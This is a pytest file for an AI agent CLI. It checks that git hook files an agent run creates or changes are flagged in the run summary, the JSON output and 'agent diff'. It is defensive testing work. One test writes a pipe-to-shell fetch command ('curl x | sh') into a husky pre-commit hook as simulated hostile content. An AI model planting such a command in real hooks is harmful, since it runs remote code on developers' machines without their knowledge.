"""Files git runs later (hooks) are flagged when a run changes them: in the run's `Done` event
(the summary and --json) and by `agent diff`, whichever way they were changed."""

from __future__ import annotations

import subprocess

import pytest

from agentcli.agent.hookpaths import hook_files
from agentcli.core.events import Done
from agentcli.testing import openai_body
from tests.unit.agent.test_checkpoints import _call, _key, _run, _session  # noqa: F401  (_key: autouse fixture)

HOOKISH = ["tools/hooks/pre-commit", ".husky/pre-push", ".pre-commit-config.yaml", "sub/.pre-commit-config.yaml"]


@pytest.mark.parametrize("rel", [*HOOKISH, ".git/hooks/post-checkout", ".husky/_/husky.sh", "sub/.git/hooks/pre-commit",
                                 ".git/config", ".git/modules/m/config", "vendor/x/.git/config", "pkg/.husky/pre-commit"])
def test_every_hook_path_form_is_flagged_and_ordinary_files_are_not(tmp_path, rel):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(["git", "-C", str(tmp_path), "config", "core.hooksPath", "tools/hooks"], check=True)
    ordinary = ["src/app.py", "tools/hooksmith.py", "husky/x", ".pre-commit-config.yaml.bak", "tools/hook",
                "config", "src/config", ".git/HEAD", ".git/objects/ab/cdef", "hooks/pre-commit", ".huskyrc"]
    assert hook_files(tmp_path, [rel, *ordinary]) == [rel]


def test_a_hooks_path_outside_the_workspace_or_unset_names_nothing_extra(tmp_path):
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    assert hook_files(tmp_path, ["tools/hooks/pre-commit"]) == []
    subprocess.run(["git", "-C", str(tmp_path), "config", "core.hooksPath", "../elsewhere"], check=True)
    assert hook_files(tmp_path, ["elsewhere/pre-commit", "tools/hooks/pre-commit"]) == []


async def test_a_run_that_changes_hook_files_flags_them_in_done_and_in_agent_diff(tmp_path, capsys):
    cmd = ("mkdir -p tools/hooks .husky sub && printf x > tools/hooks/pre-commit && printf x > .husky/pre-push && "
           "printf x > .pre-commit-config.yaml && printf x > sub/.pre-commit-config.yaml && printf x > plain.txt")
    s = _session(tmp_path, [openai_body("", tool_calls=[_call("bash", {"command": cmd}, "1")]), openai_body("done")])
    subprocess.run(["git", "init", "-q", str(s.workspace)], check=True)
    subprocess.run(["git", "-C", str(s.workspace), "config", "core.hooksPath", "tools/hooks"], check=True)
    events = await _run(s, "set up hooks")
    done = events[-1]
    assert isinstance(done, Done) and done.stop == "answered", done
    assert sorted(done.hook_files) == sorted(HOOKISH)

    from agentcli.cli.commands import diff

    assert diff.execute(s.transcript.path.stem) == 0
    err = capsys.readouterr().err
    assert "git runs these changed files" in err and all(h in err for h in HOOKISH) and "plain.txt" not in err.split("hooks")[-1]


@pytest.mark.parametrize("mode", ["json", "terminal"])
def test_the_real_cli_run_summary_names_hook_files(tmp_path, mode):
    import json

    from typer.testing import CliRunner

    from agentcli.cli.main import app
    from tests.security.test_hostile_workspace import _bash_script

    ws = tmp_path / "ws"
    ws.mkdir()
    profile = _bash_script(tmp_path, "hook", "mkdir -p .husky && printf 'curl x | sh' > .husky/pre-commit")
    args = ["run", "go", "-p", str(profile), "-w", str(ws), "--tier", "run", "--yes"]
    res = CliRunner().invoke(app, args + (["--json"] if mode == "json" else []), catch_exceptions=False)
    assert res.exit_code == 0, res.output[-2000:]
    if mode == "json":
        done = json.loads(res.stdout.splitlines()[-1])
        assert done["event"] == "done" and done["hook_files"] == [".husky/pre-commit"]
    else:
        assert "git runs these changed files" in res.stderr and ".husky/pre-commit" in res.stderr
